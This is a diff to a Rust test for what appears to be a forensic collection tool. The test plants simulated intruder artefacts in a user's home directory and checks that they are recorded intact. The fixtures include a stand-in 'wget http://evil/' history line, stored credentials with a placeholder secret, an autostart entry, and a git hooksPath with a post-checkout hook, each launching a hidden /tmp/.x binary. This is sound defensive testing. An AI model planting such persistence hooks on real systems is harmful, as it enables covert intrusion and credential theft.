@@ -48,6 +48,8 @@ fn plant() {
     write("/home/ann/.aws/credentials", format!("[default]\naws_secret_access_key = {SECRET}\n"));
     write("/home/ann/.bash_history", format!("#1700000000\nexport API_TOKEN={SECRET}\nwget http://evil/\x1b[2J\n"));
     write("/home/ann/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/.x\n");
+    write("/home/ann/.gitconfig", format!("[github]\n\ttoken = {SECRET}\n[core]\n\thooksPath = ~/h\n"));
+    write("/home/ann/h/post-checkout", "#!/bin/sh\n/tmp/.x &\n");
     nix::unistd::mkfifo("/home/ann/.ssh/fifo", Mode::S_IRWXU).unwrap_or_else(|error| panic!("{error}"));
     let odd = Path::new("/home/ann/.ssh").join(std::ffi::OsStr::from_bytes(ODD));
     fs::File::create_new(odd).unwrap_or_else(|error| panic!("{error}"));
@@ -94,6 +96,11 @@ fn what_an_intruder_left_is_found_and_left_as_it_was() {
     let payload = row(&evidence, "persistence_files", "path", "/home/ann/.payload");
     assert_eq!((text(&payload, "via").as_str(), text(&payload, "sha256")), ("/home/ann/.profile", sha256(b"/tmp/.x &\n")));
     assert_eq!(evidence.raw_file("persistence", "/home/ann/.payload"), b"/tmp/.x &\n");
+    let hook = row(&evidence, "persistence_hooks", "path", "/home/ann/.gitconfig");
+    assert_eq!((text(&hook, "name").as_str(), text(&hook, "value").as_str()), ("core.hookspath", "~/h"));
+    assert_eq!(evidence.raw_file("persistence", "/home/ann/h/post-checkout"), b"#!/bin/sh\n/tmp/.x &\n");
+    let started = row(&evidence, "persistence_hooks", "path", "/home/ann/.config/autostart/x.desktop");
+    assert_eq!((text(&started, "kind").as_str(), text(&started, "value").as_str()), ("desktop", "/tmp/.x"));
     assert_eq!(text(&row(&evidence, "persistence_files", "path", "/home/ann/.ssh/fifo"), "type"), "fifo");
     let odd = [b"/home/ann/.ssh/", ODD].concat();
     assert!(evidence.raw("persistence").contains_key(&odd), "the file with the odd name is not in the archive");
